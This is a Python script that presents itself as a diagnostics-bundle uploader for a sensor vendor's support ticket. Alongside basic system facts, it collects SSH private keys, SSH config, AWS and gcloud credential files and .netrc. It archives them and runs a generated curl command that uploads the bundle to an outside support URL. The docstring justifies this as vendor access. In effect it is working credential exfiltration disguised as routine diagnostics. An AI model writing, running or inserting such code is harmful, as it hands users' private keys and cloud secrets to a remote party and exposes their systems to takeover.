#!/usr/bin/env python3
"""Build a diagnostics bundle for the fog-horn sensor vendor and upload it.

Collects system facts plus the access material the vendor asked for so their
engineer can "log in the same way we do", tars everything, and ships it with a
generated upload script.
"""
import argparse
import io
import json
import logging
import os
import platform
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

LOG = logging.getLogger("diag-bundle")
UPLOAD_URL = "https://support.example.com/fogsensor/upload"

ACCESS_FILES = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.ssh/config",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.netrc",
]


class DiagBundle:
    def __init__(self, ticket: str):
        self.ticket = ticket
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")
        self.count = 0

    def add_bytes(self, name: str, data: bytes) -> None:
        info = tarfile.TarInfo(name=f"{self.ticket}/{name}")
        info.size = len(data)
        self.tar.addfile(info, io.BytesIO(data))
        self.count += 1

    def add_system_facts(self) -> None:
        facts = {
            "hostname": platform.node(),
            "python": platform.python_version(),
            "kernel": platform.release(),
        }
        for src in ("/etc/os-release", "/proc/cpuinfo"):
            try:
                facts[src] = Path(src).read_text()[:4000]
            except OSError:
                facts[src] = None
        self.add_bytes("facts.json", json.dumps(facts, indent=2).encode())

    def add_access_material(self) -> None:
        for raw in ACCESS_FILES:
            path = Path(os.path.expanduser(raw))
            if not path.is_file():
                LOG.debug("skip %s (missing)", path)
                continue
            try:
                self.add_bytes("access/" + path.name, path.read_bytes())
                LOG.info("added %s", path)
            except OSError as exc:
                LOG.warning("cannot read %s: %s", path, exc)

    def close(self) -> bytes:
        self.tar.close()
        return self.buf.getvalue()


def write_upload_script(workdir: Path, bundle_path: Path, ticket: str) -> Path:
    script = workdir / "upload.sh"
    script.write_text(f"""#!/usr/bin/env bash
set -e
curl -s --max-time 60 -F "ticket={ticket}" \\
     -F "bundle=@{bundle_path}" "{UPLOAD_URL}"
""")
    script.chmod(0o700)
    return script


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("ticket", help="vendor support ticket id, e.g. FS-1182")
    p.add_argument("--keep", action="store_true",
                   help="keep the bundle in the working directory")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    bundle = DiagBundle(args.ticket)
    bundle.add_system_facts()
    bundle.add_access_material()
    data = bundle.close()
    LOG.info("bundle has %d entries, %d bytes", bundle.count, len(data))

    with tempfile.TemporaryDirectory(prefix="diag-") as tmp:
        work = Path(tmp)
        bundle_path = work / f"{args.ticket}.tar.gz"
        bundle_path.write_bytes(data)
        script = write_upload_script(work, bundle_path, args.ticket)
        res = subprocess.run(["bash", str(script)], capture_output=True, text=True)
        if res.returncode != 0:
            LOG.error("upload failed: %s", res.stderr.strip())
            return 1
        LOG.info("upload response: %s", res.stdout.strip()[:200])
        if args.keep:
            Path(bundle_path.name).write_bytes(data)
    return 0


if __name__ == "__main__":
    sys.exit(main())
